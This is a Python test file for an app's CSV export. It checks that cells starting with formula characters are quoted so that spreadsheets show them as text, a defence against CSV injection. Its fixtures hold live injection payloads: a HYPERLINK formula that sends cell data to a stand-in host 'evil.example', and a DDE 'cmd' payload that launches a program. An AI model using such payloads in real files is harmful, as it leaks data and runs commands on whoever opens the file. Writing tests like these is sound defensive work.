"""Every CSV the app writes opens in a spreadsheet as data, never as formulas.

A model's answer, a prompt, a battle's title or a model id that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when a
colleague opens the file (OWASP's CSV injection). Each export is made from
real stored data here and read back with the csv module.
"""

import csv
import io
import random

import pytest

from core.arena import battles_csv
from core.batch import BatchRunner, result_rows, results_csv
from core.catalog import parse_catalog
from core.chat import ChatService
from core.csv_export import FORMULA_STARTS, safe_cell, to_csv
from core.demo.replies import StreamReply, text_stream
from core.leaderboard import votes_csv
from core.model_settings import ModelSettings
from core.ratings import A_BETTER
from core.store import batches as batch_store
from core.store.batches import NewPrompt
from core.store.users import ensure_user
from core.worker import Worker
from tests.battle_helpers import arena_for

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_inert(text: str) -> None:
    for cell in cells_of(text):
        assert not cell.startswith(FORMULA_STARTS), f"live formula in CSV: {cell!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(value):
    assert safe_cell(value) == "'" + value
    document = to_csv(["a"], [[value]])
    assert cells_of(document) == ["a", "'" + value]


def test_ordinary_text_and_numbers_are_written_unchanged():
    document = to_csv(["text", "n", "none"], [["it's fine = ok", -1.5, None]])
    assert cells_of(document) == ["text", "n", "none", "it's fine = ok", "-1.5", ""]


@pytest.fixture
def user(db):
    return ensure_user("alice")


def test_batch_results_csv_neutralises_prompts_and_answers(make_chat, user, server):
    server.default = lambda request: StreamReply(text_stream("r1", answer=[HYPERLINK]))
    runner = BatchRunner(make_chat())
    try:
        prompts = [NewPrompt(f"+p{i}", text) for i, text in enumerate(HOSTILE)]
        batch = runner.create(user.id, "set.csv", prompts, [ModelSettings("m")])
        runner.wait(batch.id)
    finally:
        runner.shutdown()
    rows = result_rows(
        batch_store.batch_cells(user.id, batch.id),
        batch_store.batch_prompts(user.id, batch.id),
        batch_store.batch_columns(user.id, batch.id),
        runner.chat.catalog,
    )
    document = results_csv(rows)
    assert_inert(document)
    assert "'" + HYPERLINK in cells_of(document)  # the answer itself, kept readable
    assert "'@SUM(1)" in cells_of(document)


@pytest.fixture
def hostile_arena(db, server):
    """An arena whose two models have ids an admin could paste from anywhere."""
    catalog = parse_catalog(
        {
            "providers": {"p": {"base_url": server.base_url("p")}},
            "models": {
                "=evil": {"routes": [{"provider": "p", "model": "a"}]},
                "@other": {"routes": [{"provider": "p", "model": "b"}]},
            },
            "policy": {"messages_per_minute": 100},
        }
    )
    worker = Worker(catalog)
    yield arena_for(ChatService(catalog, worker), rng=random.Random(3))
    worker.shutdown()


def test_battle_and_vote_csvs_neutralise_titles_and_model_ids(hostile_arena, user):
    arena = hostile_arena
    battle = arena.battle(user.id, arena.start_battle(user.id, HYPERLINK).id)
    for answer in battle.detail.latest_answers:
        arena.chat.worker.wait(answer.id, timeout=30)
    a, b = arena.battle(user.id, battle.id).detail.latest_answers
    arena.vote(user.id, battle.id, A_BETTER, a.id, b.id)

    battles = battles_csv(arena.history(user.id))
    assert_inert(battles)
    assert {"'=evil", "'@other"} <= set(cells_of(battles))

    votes = votes_csv()
    assert_inert(votes)
    assert {"'=evil", "'@other"} <= set(cells_of(votes))
